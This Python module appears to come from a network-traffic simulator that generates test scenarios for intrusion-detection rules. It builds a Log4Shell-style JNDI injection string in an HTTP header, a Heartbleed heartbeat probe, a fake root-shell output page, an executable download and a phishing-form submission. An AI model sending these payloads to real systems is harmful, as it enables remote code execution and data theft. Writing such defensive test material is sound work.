"""Requests and answers over HTTP and TLS: an exploit, a test, a download, a probe, a form."""

from __future__ import annotations

from collections.abc import Mapping

from tickets.engine.types import Outcome
from tickets.simulator.background import play_background
from tickets.simulator.clock import NS_PER_S, to_http_date
from tickets.simulator.messages import http, tls
from tickets.simulator.messages.turns import answer, ask
from tickets.simulator.network import Dialogue, travel_ns
from tickets.simulator.scene import NO_PROGRAMS, Programs
from tickets.simulator.sensors.zeek_logs import Notice
from tickets.simulator.simulation import Simulation
from tickets.simulator.stage import MS, Stage
from tickets.simulator.telling import OnPacket, draw_list_day, on_stream, tell

REQUEST = 3  # after the handshake
CLAIMED_BYTES = 16_384


def _exchange(
    stage: Stage, request: bytes, reply: bytes, said: Mapping[str, str], start_ns: int | None = None
) -> Dialogue:
    """The file's client asks the file's server once."""
    talk = stage.talk(
        stage.socket(stage.host("client")),
        stage.door("server"),
        stage.start_ns if start_ns is None else start_ns,
    )
    chance = stage.noise.child("exchange")
    talk.shake_hands()
    talk.say(talk.client, request, chance.about(700_000))
    talk.say(talk.server, reply, chance.about(14 * MS))
    talk.part(talk.server, chance.about(800_000))
    return talk.end("http", dict(said))


def _answer_number(lesson: Dialogue) -> int:
    """The first packet of the answer, as every tap on its way sees it."""
    return next(
        number
        for number, packet in enumerate(lesson.packets)
        if packet.payload and packet.src == lesson.server
    )


def _get(stage: Stage, target: str, host: str, headers: Mapping[str, str] | None = None) -> bytes:
    fields = {"User-Agent": stage.choose("agent"), "Accept": "*/*", **(headers or {})}
    return http.write_http_request("GET", target, host, fields)


def _reply(stage: Stage, status: int, body: bytes, kind: str = "text/html") -> bytes:
    fields = {"Date": to_http_date(stage.start_ns), "Server": stage.choose("software")}
    return http.write_http_answer(status, fields, body, kind=kind)


def _tell_exchange(
    stage: Stage, lesson: Dialogue, others: list[Dialogue], raised: OnPacket, programs: Programs = NO_PROGRAMS
) -> Simulation:
    return tell(
        stage,
        lesson,
        [*others, lesson, *play_background(stage, 14, spread_s=60)],
        stage.firewall(),
        raised=raised,
        outcome=Outcome.ESTABLISHED,
        programs=programs,
        values={"list_day": draw_list_day(stage)},
    )


def _looked_up(stage: Stage) -> tuple[Dialogue, int]:
    """The client's question for the server's name, and when it may go on."""
    client, server = stage.host("client"), stage.host("server")
    lookup = stage.look_up(client, server, stage.start_ns)
    return lookup, lookup.packets[-1].sent_ns + travel_ns(client, stage.resolver) + 3 * MS


def play_string_for_a_logger(stage: Stage) -> Simulation:
    """T086: a string that an old logging library would follow; the server answers 400 and calls nobody."""
    string = f"${{jndi:{stage.choose('scheme')}://{stage.host('client').ip}:{stage.choose('port')}/{stage.choose('name')}}}"
    request = _get(stage, stage.choose("target"), stage.host("server").ip, {"X-Api-Version": string})
    lesson = _exchange(
        stage, request, _reply(stage, 400, b"<h1>Bad Request</h1>\n"), {"path": stage.choose("target")}
    )
    return _tell_exchange(stage, lesson, [], on_stream(lesson, REQUEST))


def play_page_that_says_root(stage: Stage) -> Simulation:
    """T088: somebody fetches a page that exists to set off this rule."""
    lookup, after_ns = _looked_up(stage)
    body = b"uid=0(root) gid=0(root) groups=0(root)\n"
    lesson = _exchange(
        stage,
        _get(stage, stage.choose("target"), stage.host("server").name),
        _reply(stage, 200, body, "text/plain"),
        {"path": stage.choose("target")},
        after_ns,
    )
    return _tell_exchange(stage, lesson, [lookup], on_stream(lesson, _answer_number(lesson)))


def play_program_fetched(stage: Stage) -> Simulation:
    """T090: a program comes from a server without a name."""
    body = b"MZ" + stage.noise.child("program").take(stage.number("kilobytes") * 1000)
    lesson = _exchange(
        stage,
        _get(stage, stage.choose("target"), stage.host("server").ip),
        _reply(stage, 200, body, "application/x-dosexec"),
        {"path": stage.choose("target")},
    )
    return _tell_exchange(stage, lesson, [], on_stream(lesson, _answer_number(lesson)))


def play_form_sent(stage: Stage) -> Simulation:
    """T093: somebody fills in a login page that is none of ours."""
    lookup, after_ns = _looked_up(stage)
    server = stage.host("server")
    page = _exchange(
        stage,
        _get(stage, "/", server.name),
        _reply(
            stage, 200, b"<title>CORP sign in</title>" + stage.noise.child("page").take(900).hex().encode()
        ),
        {"path": "/"},
        after_ns,
    )
    values = {"user": stage.choose("user"), "password": stage.choose("password")}
    form = http.write_http_form(stage.choose("target"), server.name, stage.choose("agent"), values)
    away = http.write_http_answer(
        302, {"Location": "https://portal.example.org/", "Server": stage.choose("software")}
    )
    lesson = _exchange(
        stage, form, away, {"path": stage.choose("target")}, after_ns + stage.number("types_s") * NS_PER_S
    )
    return _tell_exchange(stage, lesson, [lookup, page], OnPacket(dialogue=lesson, packet=REQUEST))


def play_heartbeat_without_leak(stage: Stage) -> Simulation:
    """T091: a heartbeat that claims more than it carries; the server ends the conversation."""
    chance = stage.noise.child("heartbeat")
    server = stage.host("server")
    talk = stage.talk(stage.socket(stage.host("client")), stage.door("server"), stage.start_ns)
    talk.shake_hands()
    talk.play(tls.talk_tls12(server.name, chance, stage.start_ns, has_heartbeat=True)[:2])
    talk.play(
        (
            ask(tls.write_heartbeat_request(CLAIMED_BYTES, b"")),
            answer(tls.write_alert(tls.FATAL, tls.UNEXPECTED_MESSAGE)),
        )
    )
    talk.part(talk.server, chance.about(500_000))
    lesson = talk.end("tls", {"server_name": server.name})
    probe = next(number for number, packet in enumerate(lesson.packets) if packet.payload[:1] == b"\x18")
    notice = Notice(
        time_ns=lesson.packets[probe].sent_ns + travel_ns(lesson.client.host, lesson.server.host),
        note="Heartbleed::SSL_Heartbeat_Attack",
        message="An TLS heartbleed attack was detected!",
        src=lesson.client.host.ip,
        dst=lesson.server.host.ip,
        port=lesson.server.port,
        dialogue=lesson,
    )
    return _tell_exchange(
        stage, lesson, [], OnPacket(dialogue=lesson, packet=probe), Programs(notices=(notice,))
    )
